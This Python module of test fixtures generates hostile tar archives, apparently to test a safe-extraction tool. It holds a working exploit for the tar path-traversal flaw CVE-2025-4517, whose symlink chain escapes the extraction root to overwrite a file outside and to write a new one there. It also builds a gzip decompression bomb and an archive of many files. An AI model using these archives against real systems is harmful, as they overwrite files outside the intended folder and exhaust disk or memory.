"""Hostile tar files, generated at test time (nothing hostile is stored in the repository).

* :func:`pathmax_chain_tar`: the symlink chain of CVE-2025-4517, built as the
  public proof of concept (CPython's ``test_realpath_limit_attack``) does:
  nested folders with long names and one-letter links to them, so that the
  expanded path of a final link exceeds PATH_MAX and ``os.path.realpath``
  (which ``filter="data"`` relies on) stops resolving; then a link
  ``escape`` to the folder above the extraction root, a hard link through it
  to a file outside, an overwrite of that hard link, and a new file through
  ``escape``.
* :func:`zero_bomb_tgz`: a small .tar.gz of gigabytes of zeros, made of
  concatenated gzip members (one compressed chunk of zeros repeated), so it
  is built in a blink.
* :func:`many_files_tgz`: a .tar.gz of many empty files.
"""
from __future__ import annotations

import gzip
import io
import os
import tarfile
import zlib

STEPS = "abcdefghijklmnop"


def component_length(extraction_root: str) -> int:
    """The PoC's folder-name length for a given extraction root (PATH_MAX based)."""
    path_max = os.pathconf(os.path.dirname(extraction_root) or "/", "PC_PATH_MAX")
    return min(255, (path_max - (len(extraction_root) + 1)) // (len(STEPS) + 1))


def pathmax_chain_tar(path: str | os.PathLike, extraction_root: str, *, up: int = 1,
                      outside_file: str = "flag", gz: bool = True) -> str:
    """Write the CVE-2025-4517 chain tar; ``up`` = levels above the root ``escape`` reaches."""
    comp = "d" * component_length(extraction_root)
    members: list[tarfile.TarInfo] = []
    data: dict[str, bytes] = {}

    def add(name, kind, target="", content=b""):
        ti = tarfile.TarInfo(name)
        if kind == "dir":
            ti.type, ti.mode = tarfile.DIRTYPE, 0o777
        elif kind == "sym":
            ti.type, ti.linkname = tarfile.SYMTYPE, target
        elif kind == "hard":
            ti.type, ti.linkname = tarfile.LNKTYPE, target
        else:
            ti.size = len(content)
            data[str(len(members))] = content
        members.append(ti)

    p = ""
    for step in STEPS:
        add(os.path.join(p, comp), "dir")
        add(os.path.join(p, step), "sym", comp)
        p = os.path.join(p, comp)
    linkpath = os.path.join(*STEPS, "l" * 254)
    add(linkpath, "sym", os.path.join(*[".."] * len(STEPS)))        # -> the root, unexpanded
    add("escape", "sym", os.path.join(linkpath, *[".."] * up))       # -> above the root
    add("flaglink", "hard", os.path.join("escape", outside_file))   # hard link to a file outside
    add("flaglink", "file", content=b"overwrite")                   # ... overwritten
    add("escape/newfile", "file", content=b"new")                   # a new file outside
    with tarfile.open(path, "w:gz" if gz else "w", format=tarfile.PAX_FORMAT) as tar:
        for i, ti in enumerate(members):
            body = data.get(str(i))
            tar.addfile(ti, io.BytesIO(body) if body is not None else None)
    return os.fspath(path)


def _gz(data: bytes, level: int = 9) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, 31)      # 31: gzip wrapper
    return c.compress(data) + c.flush()


def zero_bomb_tgz(path: str | os.PathLike, sizes: list[int], *, poison_after: int | None = None,
                  chunk: int = 64 << 20) -> int:
    """A .tar.gz of members ``bomb<i>.bin`` of ``sizes[i]`` zero bytes; returns its size.

    With ``poison_after=k`` the stream is cut after ``k`` chunks of the first
    member's data and garbage follows: a reader that refuses the member on
    its header never notices; one that reads the data first fails as corrupt.
    """
    zchunk = _gz(bytes(chunk))
    with open(path, "wb") as fh:
        total = 0
        for i, size in enumerate(sizes):
            ti = tarfile.TarInfo(f"bomb{i}.bin")
            ti.size = size
            fh.write(_gz(ti.tobuf(format=tarfile.PAX_FORMAT)))
            left = size + (-size) % 512
            n = 0
            while left >= chunk:
                if poison_after is not None and i == 0 and n == poison_after:
                    fh.write(b"\x1f\x8b\x08\x00garbage, not deflate data" * 100)
                    return fh.tell()
                fh.write(zchunk)
                left -= chunk
                n += 1
            fh.write(_gz(bytes(left)))
            total += size
        fh.write(_gz(bytes(1024)))          # end-of-archive blocks
        return fh.tell()


def many_files_tgz(path: str | os.PathLike, n: int, prefix: str = "t") -> str:
    """A .tar.gz of ``n`` empty files ``<prefix>/f<i>``."""
    with gzip.open(path, "wb", compresslevel=1) as gz:
        for i in range(n):
            ti = tarfile.TarInfo(f"{prefix}/f{i:06d}")
            gz.write(ti.tobuf(format=tarfile.USTAR_FORMAT))
        gz.write(bytes(1024))
    return os.fspath(path)


def files_tar(path: str | os.PathLike, files: dict[str, bytes], gz: bool = False) -> str:
    """A tar (``gz``: .tar.gz) of regular files ``{name: content}``."""
    with tarfile.open(path, "w:gz" if gz else "w") as tar:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tar.addfile(ti, io.BytesIO(data))
    return os.fspath(path)
